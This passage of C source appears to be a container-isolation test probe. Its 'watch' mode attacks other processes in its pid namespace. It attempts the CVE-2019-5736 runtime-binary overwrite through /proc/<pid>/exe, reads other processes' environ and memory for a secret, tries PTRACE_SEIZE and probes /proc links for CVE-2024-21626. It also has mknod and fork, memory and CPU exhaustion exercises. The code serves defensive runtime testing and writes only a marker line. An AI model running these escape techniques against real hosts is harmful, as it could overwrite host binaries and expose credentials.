        put_str(fd >= 0 ? "ok" : errno_name(e));
        reach_via_proc("self", marker);
        op_end(start);
        first_member = saved_first;
}

/* ---- watch: attack every process that shows up in our pid namespace ---- */

#define WATCH_PROCS 2048
#define WATCH_HELD 64
#define WATCH_STOP "/tmp/watch-stop"

static struct {
        pid_t pid;
        char comm[32];
} watch_seen[WATCH_PROCS];
static int watch_n_seen;

/* /proc/<pid>/exe files held open O_PATH, to be reopened for writing later. */
static struct {
        int fd;
        dev_t dev;
        ino_t ino;
        char exe[256];
        char result[32];
        int attempts;
} watch_held[WATCH_HELD];
static int watch_n_held;

/* Our own binaries: writing them proves nothing and breaks the bundle. */
static struct stat watch_own[3];
static int watch_n_own;

static const char *watch_marker, *watch_secret;

static int same_file(const struct stat *a, dev_t dev, ino_t ino)
{
        return a->st_dev == dev && a->st_ino == ino;
}

static int is_own(const struct stat *st)
{
        for (int i = 0; i < watch_n_own; i++)
                if (same_file(&watch_own[i], st->st_dev, st->st_ino))
                        return 1;
        return 0;
}

/* Append a line to an exe reopened for writing: "WROTE" or the errno. */
static const char *write_exe(const char *path)
{
        int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0)
                return errno_name(errno);
        static const char line[] = "\n# cell escape suite: written from inside a container\n";
        ssize_t n = write(fd, line, sizeof(line) - 1);
        int e = errno;
        close(fd);
        return n > 0 ? "WROTE" : errno_name(e);
}

static void hold_exe(int fd, const struct stat *st, const char *exe)
{
        for (int i = 0; i < watch_n_held; i++) {
                if (watch_held[i].dev == st->st_dev && watch_held[i].ino == st->st_ino) {
                        close(fd);
                        return;
                }
        }
        if (watch_n_held == WATCH_HELD) {
                close(fd);
                return;
        }
        watch_held[watch_n_held].fd = fd;
        watch_held[watch_n_held].dev = st->st_dev;
        watch_held[watch_n_held].ino = st->st_ino;
        snprintf(watch_held[watch_n_held].exe, sizeof(watch_held[0].exe), "%s", exe);
        snprintf(watch_held[watch_n_held].result, sizeof(watch_held[0].result), "untried");
        watch_n_held++;
}

/* CVE-2019-5736: open the process's executable, write it now, keep it for later. */
static void attack_exe(pid_t pid)
{
        char path[64], exe[256];
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
        int e = errno;
        exe[n > 0 ? n : 0] = '\0';
        key("exe");
        put_str(n > 0 ? exe : errno_name(e));
        int fd = open(path, O_PATH | O_CLOEXEC);
        key("exe_open");
        put_str(fd >= 0 ? "ok" : errno_name(errno));
        if (fd < 0)
                return;
        struct stat st;
        fstat(fd, &st);
        key("exe_dev");
        putf("[%u,%u]", major(st.st_dev), minor(st.st_dev));
        key("exe_ino");
        putf("%llu", (unsigned long long)st.st_ino);
        key("exe_write");
        if (is_own(&st)) {
                put_str("own");
                close(fd);
                return;
        }
        put_str(write_exe(path));
        hold_exe(fd, &st, exe);
}

/* Once every runtime process is gone the binary is no longer busy: retry. */
static void rewrite_held(void)
{
        for (int i = 0; i < watch_n_held; i++) {
                if (strcmp(watch_held[i].result, "WROTE") == 0)
                        continue;
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", watch_held[i].fd);
                snprintf(watch_held[i].result, sizeof(watch_held[i].result), "%s", write_exe(path));
                watch_held[i].attempts++;
        }
}

/* "leak" if the process's environment (or its memory there) holds the secret. */
static const char *read_environ(pid_t pid)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/environ", pid);
        size_t len = 0;
        char *s = read_file(path, 1 << 16, &len);
        if (!s)
                return errno_name(errno);
        int leak = memmem(s, len, watch_secret, strlen(watch_secret)) != NULL;
        free(s);
        return leak ? "leak" : "ok";
}

/* env_start and env_end: fields 50 and 51 of /proc/<pid>/stat. */
static int env_range(pid_t pid, unsigned long *lo, unsigned long *hi)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
        char *s = read_file(path, 4096, NULL);
        char *p = s ? strrchr(s, ')') : NULL;
        int field = 2, ok = 0;
        for (char *tok = p ? strtok(p + 1, " ") : NULL; tok; tok = strtok(NULL, " ")) {
                field++;
                if (field == 50)
                        *lo = strtoul(tok, NULL, 10);
                if (field == 51) {
                        *hi = strtoul(tok, NULL, 10);
                        ok = *hi > *lo;
                        break;
                }
        }
        free(s);
        return ok;
}

static const char *read_mem(pid_t pid)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return errno_name(errno);
        unsigned long lo = 0, hi = 0;
        const char *res = "ok";
        if (env_range(pid, &lo, &hi)) {
                size_t len = hi - lo > 65536 ? 65536 : hi - lo;
                char *buf = malloc(len);
                ssize_t n = buf ? pread(fd, buf, len, (off_t)lo) : -1;
                if (n > 0 && memmem(buf, (size_t)n, watch_secret, strlen(watch_secret)))
                        res = "leak";
                free(buf);
        }
        close(fd);
        return res;
}

static void put_status_field(pid_t pid, const char *field)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/status", pid);
        char *s = read_file(path, 65536, NULL);
        char *line = s ? strstr(s, field) : NULL;
        key(field);
        if (line) {
                line += strlen(field) + 1;
                line[strcspn(line, "\n")] = '\0';
                put_str(line + strspn(line, " \t"));
        } else {
                puts_raw("null");
        }
        free(s);
}

/* PTRACE_SEIZE needs the same permission as PTRACE_ATTACH (PTRACE_MODE_ATTACH)
 * but queues no SIGSTOP, so a tracee we fail to see stopped is not left
 * stopped when we exit.  While it is stopped, record what we got hold of. */
static void attack_ptrace(pid_t pid)
{
        key("ptrace");
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
                put_str(errno_name(errno));
                return;
        }
        put_str("ok");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        int status = 0, stopped = 0;
        for (int i = 0; i < 2000 && !stopped; i++) {
                pid_t r = waitpid(pid, &status, __WALL | WNOHANG);
                if (r < 0 || (r == pid && !WIFSTOPPED(status)))
                        break;
                stopped = r == pid;
                if (!stopped)
                        usleep(500);
        }
        key("stopped");
        if (!stopped) {
                puts_raw("null");
                ptrace(PTRACE_DETACH, pid, 0, 0);
                return;
        }
        open_obj();
        char path[64], buf[256];
        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        char *comm = read_file(path, 64, NULL);
        if (comm)
                comm[strcspn(comm, "\n")] = '\0';
        key("comm");
        put_str(comm);
        free(comm);
        put_status_field(pid, "CapEff");
        put_status_field(pid, "Uid");
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        ssize_t n = readlink(path, buf, sizeof(buf) - 1);
        buf[n > 0 ? n : 0] = '\0';
        key("exe");
        put_str(buf);
        struct stat st;
        key("exe_dev");
        if (stat(path, &st) == 0)
                putf("[%u,%u]", major(st.st_dev), minor(st.st_dev));
        else
                puts_raw("null");
        key("exe_ino");
        putf("%llu", stat(path, &st) == 0 ? (unsigned long long)st.st_ino : 0ULL);
        close_obj();
        ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void watch_attack(pid_t pid, const char *comm)
{
        char pidstr[16];
        snprintf(pidstr, sizeof(pidstr), "%d", pid);
        elem();
        open_obj();
        key("pid");
        putf("%d", pid);
        key("comm");
        put_str(comm);
        attack_exe(pid);
        key("environ");
        put_str(read_environ(pid));
        key("mem");
        put_str(read_mem(pid));
        reach_via_proc(pidstr, watch_marker);
        attack_ptrace(pid);
        close_obj();
}

/* First sight of (pid, comm): a runtime process that execs shows up twice. */
static int watch_new(pid_t pid, const char *comm)
{
        for (int i = 0; i < watch_n_seen; i++)
                if (watch_seen[i].pid == pid && strcmp(watch_seen[i].comm, comm) == 0)
                        return 0;
        if (watch_n_seen == WATCH_PROCS)
                return 0;
        watch_seen[watch_n_seen].pid = pid;
        snprintf(watch_seen[watch_n_seen].comm, sizeof(watch_seen[0].comm), "%s", comm);
        watch_n_seen++;
        return 1;
}

static void watch_scan(void)
{
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
                pid_t pid = atoi(e->d_name);
                if (pid <= 0 || pid == getpid())
                        continue;
                char path[64];
                snprintf(path, sizeof(path), "/proc/%d/comm", pid);
                char *comm = read_file(path, 64, NULL);
                if (!comm)
                        continue;
                comm[strcspn(comm, "\n")] = '\0';
                if (watch_new(pid, comm))
                        watch_attack(pid, comm);
                free(comm);
        }
        if (d)
                closedir(d);
}

static void own_binaries(void)
{
        static const char *const paths[] = {"/proc/self/exe", "/bin/busybox", "/probe"};
        for (size_t i = 0; i < 3; i++)
                if (stat(paths[i], &watch_own[watch_n_own]) == 0)
                        watch_n_own++;
}

/*
 * probe watch SECONDS MARKER SECRET: print "watching\n", then for SECONDS
 * attack every other process of our pid namespace as it appears (each
 * (pid, comm) once): its executable (open O_PATH, write it now, and keep
 * trying to reopen it for writing until the end, CVE-2019-5736), its
 * environ and mem (is SECRET there?), its cwd/root/fd links (do they lead
 * to the host file MARKER? CVE-2024-21626) and PTRACE_SEIZE.  Ends early,
 * after one last pass, once the file WATCH_STOP exists.
 */
static void do_watch(double secs, const char *marker, const char *secret)
{
        watch_marker = marker;
        watch_secret = secret;
        own_binaries();
        write_all(1, "watching\n", 9);
        ensure_obj();
        key("watch");
        open_obj();
        key("procs");
        open_arr();
        struct timespec t0, t;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        long scans = 0;
        int stop = 0;
        do {
                stop = access(WATCH_STOP, F_OK) == 0; /* then one last pass */
                watch_scan();
                rewrite_held();
                scans++;
                clock_gettime(CLOCK_MONOTONIC, &t);
        } while (!stop &&
                 (double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
        close_arr();
        key("scans");
        putf("%ld", scans);
        key("held");
        open_arr();
        for (int i = 0; i < watch_n_held; i++) {
                elem();
                open_obj();
                key("exe");
                put_str(watch_held[i].exe);
                key("dev");
                putf("[%u,%u]", major(watch_held[i].dev), minor(watch_held[i].dev));
                key("ino");
                putf("%llu", (unsigned long long)watch_held[i].ino);
                key("rewrite");
                put_str(watch_held[i].result);
                key("attempts");
                putf("%d", watch_held[i].attempts);
                close_obj();
                close(watch_held[i].fd);
        }
        close_arr();
        close_obj();
}

/* The words of this block; -1 if `argv[i]` is none of them. */
static int run_escape_word(int argc, char **argv, int i)
{
        const char *w = argv[i];
        if (strcmp(w, "mknod") == 0) {
                escape_args(i, argc, 4, "mknod PATH b|c MAJOR MINOR");
                ensure_obj();
                op_mknod(argv[i + 1], argv[i + 2], argv[i + 3], argv[i + 4]);
                return i + 4;
        }
        if (strcmp(w, "try") == 0 || strcmp(w, "reach") == 0) {
                escape_args(i, argc, 1, w[0] == 't' ? "try SYSCALL" : "reach HOSTPATH");
                ensure_obj();
                if (w[0] == 't')
                        op_try(argv[i + 1]);
                else
                        op_reach(argv[i + 1]);
                return i + 1;
        }
        if (strcmp(w, "watch") == 0) {
                escape_args(i, argc, 3, "watch SECONDS MARKER SECRET");
                do_watch(atof(argv[i + 1]), argv[i + 2], argv[i + 3]);
                return i + 3;
        }
        return -1;
}

static void op_reopen_write(const char *path, const char *wait_path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("reopen-write", path);
        int fd = open(path, O_PATH | O_CLOEXEC);
        int e = errno;
        char line[64];
        int n = snprintf(line, sizeof(line), "opened %s\n", fd >= 0 ? "OK" : errno_name(e));
        write_all(1, line, (size_t)n);
        if (fd < 0) {
                key("stage");
                put_str("open");
                op_result(0, e);
                op_end(start);
                first_member = saved_first;
                return;
        }
        for (int i = 0; i < 3000 && access(wait_path, F_OK) != 0; i++)
                usleep(10000);
        char proc[64];
        snprintf(proc, sizeof(proc), "/proc/self/fd/%d", fd);
        int wfd = open(proc, O_WRONLY | O_CLOEXEC);
        e = errno;
        int ok = wfd >= 0;
        if (ok && write(wfd, "probe\n", 6) < 0) {
                ok = 0;
                e = errno;
        }
        if (wfd >= 0)
                close(wfd);
        close(fd);
        key("stage");
        put_str("reopen");
        op_result(ok, e);
        op_end(start);
        first_member = saved_first;
}

/* ---- driver -------------------------------------------------------------- */

static int obj_open;

static void ensure_obj(void)
{
        if (!obj_open) {
                open_obj();
                obj_open = 1;
        }
}

/* Print the object gathered so far, if any. */
static void emit(void)
{
        if (!obj_open && ops_len == 0)
                return;
        ensure_obj();
        if (ops_len) {
                key("ops");
                put("[", 1);
                put(ops, ops_len);
                put("]", 1);
                ops_len = 0;
        }
        close_obj();
        put("\n", 1);
        flush_out();
        obj_open = 0;
}

static void do_signals(void)
{
        sigset_t all;
        memset(&all, 0xff, sizeof(all)); /* sigfillset leaves out musl's own 32..34 */
        sigprocmask(SIG_BLOCK, &all, NULL);
        write_all(1, "ready\n", 6);
        for (;;) {
                siginfo_t si;
                int sig = sigwaitinfo(&all, &si);
                if (sig < 0)
                        continue;
                char line[64];
                int n = snprintf(line, sizeof(line), "%s\n", signal_name(sig));
                write_all(1, line, (size_t)n);
                if (sig == SIGTERM)
                        exit(0);
        }
}

static void do_cat(void)
{
        char buf[4096];
        for (;;) {
                ssize_t n = read(0, buf, sizeof(buf));
                if (n < 0 && errno == EINTR)
                        continue;
                if (n <= 0)
                        return;
                write_all(1, buf, (size_t)n);
        }
}

static int need_arg(int i, int argc, const char *what)
{
        if (i + 1 >= argc) {
                fprintf(stderr, "probe: %s needs an argument\n", what);
                exit(125);
        }
        return i + 1;
}

static void op_open(const char *path)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("open", path);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        op_result(fd >= 0, errno);
        if (fd >= 0)
                close(fd);
        op_end(start);
        first_member = saved_first;
}

/* syscall(NR) with zero arguments, as an op: what a seccomp filter answers
 * for a number (ENOSYS above a profile's highest, its errno below). */
static void op_syscall(const char *nr)
{
        size_t start = out_len;
        int saved_first = first_member;
        op_begin("syscall", nr);
        errno = 0;
        long r = syscall(strtol(nr, NULL, 0), 0, 0, 0, 0, 0, 0);
        op_result(r >= 0, errno);
        op_end(start);
        first_member = saved_first;
}

/* ---- resource exercises (cgroup tests) ------------------------------------ */

static double now_ms(clockid_t clock)
{
        struct timespec ts;
        clock_gettime(clock, &ts);
        return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

/* "exited": code or null, "signal": name or null, for a reaped child. */
static void put_wait_status(int status)
{
        key("exited");
        if (WIFEXITED(status))
                putf("%d", WEXITSTATUS(status));
        else
                puts_raw("null");
        key("signal");
        if (WIFSIGNALED(status))
                put_str(signal_name(WTERMSIG(status)));
        else
                puts_raw("null");
}

static int wait_child(pid_t pid)
{
        int status = 0;
        while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
                ;
        return status;
}

/* Touch `len` bytes of a fresh mapping page by page (exit 3 when mmap fails). */
static void touch_mapping(size_t len, int extra_flags, size_t page)
{
        char *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | extra_flags,
                       -1, 0);
        if (p == MAP_FAILED)
                _exit(3);
        for (size_t off = 0; off < len; off += page)
                p[off] = 1;
        _exit(0);
}

static void do_hog(const char *arg)
{
        long mb = atol(arg);
        pid_t pid = fork();
        if (pid == 0)
                touch_mapping((size_t)mb << 20, 0, 4096);
        int status = wait_child(pid);
        key("hog");
        open_obj();
        key("mb");
        putf("%ld", mb);
        put_wait_status(status);
        close_obj();
}

static void do_hugetlb(const char *arg)
{
        long pages = atol(arg);
        pid_t pid = fork();
        if (pid == 0)
                touch_mapping((size_t)pages << 21, MAP_HUGETLB, (size_t)1 << 21);
        int status = wait_child(pid);
        key("hugetlb");
        open_obj();
        key("pages");
        putf("%ld", pages);
        put_wait_status(status);
        close_obj();
}

static void do_forks(const char *arg)
{
        long wanted = atol(arg), ok = 0;
        int first_errno = 0;
        pid_t *kids = calloc((size_t)wanted + 1, sizeof(pid_t));
        if (!kids)
                abort();
        for (long i = 0; i < wanted; i++) {
                pid_t pid = fork();
                if (pid == 0) {
                        pause();
                        _exit(0);
                }
                if (pid < 0) {
                        if (!first_errno)
                                first_errno = errno;
                        continue;
                }
                kids[ok++] = pid;
        }
        for (long i = 0; i < ok; i++) {
                kill(kids[i], SIGKILL);
                wait_child(kids[i]);
        }
        free(kids);
        key("forks");
        open_obj();
        key("wanted");
        putf("%ld", wanted);
        key("ok");
        putf("%ld", ok);
        key("errno");
        if (first_errno)
                put_str(errno_name(first_errno));
        else
                puts_raw("null");
        close_obj();
}

static void do_burn(const char *arg)
{
        double wall = atof(arg) * 1e3;
        double t0 = now_ms(CLOCK_MONOTONIC), c0 = now_ms(CLOCK_PROCESS_CPUTIME_ID);
        volatile unsigned long spin = 0;
        while (now_ms(CLOCK_MONOTONIC) - t0 < wall)
                for (int i = 0; i < 10000; i++)
                        spin++;
        key("burn");
        open_obj();
        key("wall_ms");
        putf("%.1f", now_ms(CLOCK_MONOTONIC) - t0);
        key("cpu_ms");
        putf("%.1f", now_ms(CLOCK_PROCESS_CPUTIME_ID) - c0);
        close_obj();
}

static void do_count(const char *path)
{
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) {
                fprintf(stderr, "probe: open %s: %s\n", path, errno_name(errno));
                exit(125);
        }
        for (unsigned long n = 1;; n++) {
                char buf[32];
                int len = snprintf(buf, sizeof(buf), "%-20lu\n", n);
                if (pwrite(fd, buf, (size_t)len, 0) < 0)
                        exit(125);
                struct timespec ts = {0, 10 * 1000 * 1000};
                nanosleep(&ts, NULL);
        }
}

static void do_dread(const char *path)
{
        size_t chunk = (size_t)1 << 20;
        long long total = 0;
        int e = 0;
        double t0 = now_ms(CLOCK_MONOTONIC);
        int fd = open(path, O_RDONLY | O_DIRECT | O_CLOEXEC);
        void *buf = NULL;
        if (fd < 0 || posix_memalign(&buf, 4096, chunk) != 0) {
                e = errno;
        } else {
                ssize_t n;
                while ((n = read(fd, buf, chunk)) > 0)
                        total += n;
                if (n < 0)
                        e = errno;
        }
        if (fd >= 0)
                close(fd);
        free(buf);
        key("dread");
        open_obj();
        key("bytes");
        putf("%lld", total);
        key("ms");
        putf("%.1f", now_ms(CLOCK_MONOTONIC) - t0);
        key("errno");
        if (e)
                put_str(errno_name(e));
        else
                puts_raw("null");
        close_obj();
}

/* sd_notify(3) by hand: send `msg` ("READY=1") to $NOTIFY_SOCKET. */
static void do_notify(const char *msg)
{
        const char *path = getenv("NOTIFY_SOCKET");
        struct sockaddr_un addr = {.sun_family = AF_UNIX};
        int e = 0;
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (!path || strlen(path) >= sizeof(addr.sun_path))
                e = EINVAL;
        else if (fd < 0)
                e = errno;
        else {
                strcpy(addr.sun_path, path);
                if (sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&addr, sizeof(addr)) < 0)
                        e = errno;
        }
        if (fd >= 0)
                close(fd);
        key("notify");
        open_obj();
        key("socket");
        if (path)
                put_str(path);
        else
                puts_raw("null");
        key("errno");
        if (e)
                put_str(errno_name(e));
        else
                puts_raw("null");
        close_obj();
}

static const struct exercise {
        const char *name;
        void (*fn)(const char *arg);
} exercises[] = {
        {"hog", do_hog},         {"forks", do_forks}, {"burn", do_burn}, {"count", do_count},
        {"hugetlb", do_hugetlb}, {"dread", do_dread}, {"open", op_open}, {"syscall", op_syscall},
        {"notify", do_notify},
};

/* A resource exercise word at argv[i]: returns the index of its argument, or -1. */
static int run_exercise(int argc, char **argv, int i)
{
        for (size_t e = 0; e < sizeof(exercises) / sizeof(exercises[0]); e++) {
                if (strcmp(argv[i], exercises[e].name) == 0) {
                        i = need_arg(i, argc, argv[i]);
                        ensure_obj();
                        exercises[e].fn(argv[i]);
                        return i;
                }
        }
        return -1;
}

static int run_word(int argc, char **argv, int i)
{
        const char *w = argv[i];
        for (size_t s = 0; s < sizeof(sections) / sizeof(sections[0]); s++) {
                if (strcmp(w, sections[s].name) == 0) {
                        ensure_obj();
                        sections[s].fn();
                        return i;
                }
        }
        if (strcmp(w, "write") == 0 || strcmp(w, "read") == 0 || strcmp(w, "stat") == 0 ||
            strcmp(w, "ls") == 0) {
                i = need_arg(i, argc, w);
                ensure_obj();
                if (w[0] == 'w')
                        op_write(argv[i]);
                else if (w[0] == 'r')
                        op_read(argv[i]);
                else if (w[0] == 's')
                        op_stat(argv[i]);
                else
                        op_ls(argv[i]);
                return i;
        }
        int escape = run_escape_word(argc, argv, i);
        if (escape >= 0)
                return escape;
        if (strcmp(w, "reopen-write") == 0) {
                i = need_arg(i, argc, w);
                int j = need_arg(i, argc, w);
                ensure_obj();
                op_reopen_write(argv[i], argv[j]);
                return j;
        }
        if (strcmp(w, "sleep") == 0) {
                i = need_arg(i, argc, w);
                emit();
                double secs = atof(argv[i]);
                struct timespec ts = {(time_t)secs, (long)((secs - (time_t)secs) * 1e9)};
                while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
                        ;
                return i;
        }
        if (strcmp(w, "exit") == 0) {
                i = need_arg(i, argc, w);
                emit();
                exit(atoi(argv[i]));
        }
        if (strcmp(w, "kill-self") == 0) {
                i = need_arg(i, argc, w);
                emit();
                int sig = signal_from_name(argv[i]);
                signal(sig, SIG_DFL);
                sigset_t set;
                sigemptyset(&set);
                sigaddset(&set, sig);
                sigprocmask(SIG_UNBLOCK, &set, NULL);
                kill(getpid(), sig);
                /* PID 1 of a pid namespace ignores its own signals: report it. */
                fprintf(stderr, "probe: still alive after kill(%s)\n", signal_name(sig));
                exit(126);
        }
        if (strcmp(w, "signals") == 0) {
                emit();
                do_signals();
        }
        if (strcmp(w, "cat") == 0) {
                emit();
                do_cat();
                return i;
        }
        int next = run_exercise(argc, argv, i);
        if (next >= 0)
                return next;
        fprintf(stderr, "probe: unknown word '%s'\n", w);
        exit(125);
}

int main(int argc, char **argv)
{
        probe_argv = argv;
        probe_argc = argc;
        if (argc < 2) {
                ensure_obj();
                for (size_t s = 0; s < sizeof(sections) / sizeof(sections[0]); s++)
                        sections[s].fn();
                emit();
                return 0;
        }
        for (int i = 1; i < argc && strcmp(argv[i], "--") != 0; i++)
                i = run_word(argc, argv, i);
        emit();
        return 0;
}
